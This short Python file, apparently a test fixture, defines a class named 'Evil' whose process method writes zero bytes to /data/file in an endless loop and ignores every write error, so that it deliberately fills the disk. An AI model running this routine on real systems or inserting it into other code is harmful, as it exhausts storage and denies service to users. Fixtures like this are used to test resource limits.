"""Fills a file, and takes no error for an answer."""


class Evil:
    def process(self, item):
        with open("/data/file", "wb", buffering=0) as file:
            while True:
                try:
                    file.write(bytes(10_000))
                except OSError:
                    pass
